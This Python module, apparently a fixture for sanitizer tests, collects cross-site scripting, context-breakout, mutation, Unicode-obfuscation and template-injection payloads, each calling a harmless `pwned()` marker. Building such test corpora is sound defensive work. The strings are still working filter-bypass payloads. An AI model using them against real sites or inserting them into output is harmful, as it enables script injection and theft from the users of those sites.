"""Texts that would run as a program, were they ever taken for a page's own: `pwned()` is what they try to call."""

from __future__ import annotations

_CALL = "&#112;&#119;&#110;&#101;&#100;&#40;&#41;"

SCRIPTS = (
    "<script>pwned()</script>",
    "<ScRiPt >pwned()</sCrIpT >",
    "<script src=//x.invalid/a.js></script>",
    "<script src='data:text/javascript,pwned()'></script>",
    "<script type=module>import('data:text/javascript,pwned()')</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script\x0c>pwned()</script\x0b>",
    "<svg><script>pwned()</script></svg>",
    "<svg><script href='data:text/javascript,pwned()' /></svg>",
)
"""Elements that are programs."""

EVENTS = (
    "<img src=x onerror=pwned()>",
    "<img src=x onerror='pwned()'//",
    '<img """><img src=x onerror=pwned()>',
    "<IMG SRC=x OnErRoR=pwned`1`>",
    "<img/src=x/onerror=pwned()>",
    f"<img src=x onerror={_CALL}>",
    "<img src=x onerror=\\u0070wned()>",
    "<svg onload=pwned()>",
    "<svg/onload=pwned()//",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:pwned() onbegin=pwned() /></svg>",
    "<body onload=pwned()>",
    "<input autofocus onfocus=pwned()>",
    "<textarea autofocus onfocus=pwned()></textarea>",
    "<details open ontoggle=pwned()>",
    "<video><source onerror=pwned()></video>",
    "<audio src=x onerror=pwned()>",
    "<marquee onstart=pwned()>",
    "<div onpointerenter=pwned() style=position:fixed;inset:0>",
    "<style onload=pwned()></style>",
    "<object data=x onerror=pwned()></object>",
    "<xss style='animation-name:x' onanimationstart=pwned()></xss>",
    "<button popovertarget=p onclick=pwned()>x</button><xss id=p popover onbeforetoggle=pwned()>",
)
"""Elements with programs in their attributes."""

ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()//https://dichvucong.gov.vn",
    " \x01javascript:pwned()",
    "java\tscript:pwned()",
    "java\r\nscript:pwned()",
    "javascript&colon;pwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()",
    "<a href=javascript:pwned()>Xem biểu mẫu</a>",
    "<a href='java&#9;script:pwned()'>Xem biểu mẫu</a>",
    "<form action=javascript:pwned()><button>Gửi</button></form>",
    "<button form=to-khai formaction=javascript:pwned()>Gửi</button>",
    "<iframe src=javascript:pwned()></iframe>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<embed src=javascript:pwned()>",
    "<base href=javascript:/a/-pwned()//>",
    "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
    'https://x.vn/"onmouseover="pwned()"x="',
    "https://x.vn/'autofocus'onfocus='pwned()'",
    "https://x.vn/?<img/src=x/onerror=pwned()>",
    'https://x.vn/#"><svg/onload=pwned()>',
    "http://[::1<script>pwned()</script>",
)
"""Addresses that run when followed, and addresses that break out of their attribute."""

BREAKS = (
    '"><script>pwned()</script>',
    "'><script>pwned()</script>",
    '" onmouseover=pwned() x="',
    "' autofocus onfocus=pwned() x='",
    "` onerror=pwned() x=`",
    "--><script>pwned()</script><!--",
    "]]><script>pwned()</script>",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</style><script>pwned()</script>",
    "</script><script>pwned()</script>",
    "</option></select><img src=x onerror=pwned()>",
    '"};pwned();//',
    "'-pwned()-'",
    '\\"-pwned()//',
    "\u2028pwned()\u2029//",
)
"""Ends of whatever a text may stand in."""

MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
    "<template><script>pwned()</script></template>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>",
    "&lt;img src=x onerror=pwned()&gt;",
    "&amp;lt;script&amp;gt;pwned()&amp;lt;/script&amp;gt;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\x3cscript\\x3epwned()\\x3c/script\\x3e",
)
"""Texts that become something else when they are read twice."""

UNICODE = (
    "<scr\x00ipt>pwned()</scr\x00ipt>",
    "<img src=x onerror\x00=pwned()>",
    "＜script＞pwned()＜/script＞",
    "\u202e<script>pwned()</script>",
    "<\u200bscript>pwned()</script>",
    "\ufeff<script>pwned()</script>",
    "\U000e003cscript\U000e003epwned()",
    "‹img src=x onerror=pwned()›",
    "\u017f<\u017fcript>pwned()</\u017fcript>",
)
"""Letters that vanish, or become others."""

TEMPLATES = (
    "{{ 7919 * 7 }}{{ self.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ 7919 * 7 }}{% endfor %}",
    "${pwned()}#{7919*7}<%= 7919*7 %>",
    "{{constructor.constructor('pwned()')()}}",
    "[x](javascript:pwned())",
    '![x](x){onerror=pwned()}<https://x.vn/"onclick=pwned()>',
    "<style>@import '//x.invalid/a.css';*{background:url(//x.invalid/a)}</style>",
    "<link rel=stylesheet href=//x.invalid/a.css>",
    "<p style=\"background:url('javascript:pwned()');width:expression(pwned())\">x</p>",
    'x\n\nevent: answer\ndata: {"html": "<img src=x onerror=pwned()>"}\n\n',
    'x\r\n\r\nevent: answer\r\ndata: {"html": "<div data-turn><img src=x onerror=pwned()></div>"}\r\n\r\n',
    "x\r\rdata: <script>pwned()</script>\r\r",
    '","html":"<img src=x onerror=pwned()>","x":"',
)
"""Marks of templates, of Markdown, of style sheets, of an event stream."""

PAYLOADS = (*SCRIPTS, *EVENTS, *ADDRESSES, *BREAKS, *MUTATIONS, *UNICODE, *TEMPLATES)
EVALUATED = str(7919 * 7)
"""What a page shows that took a text for a template."""
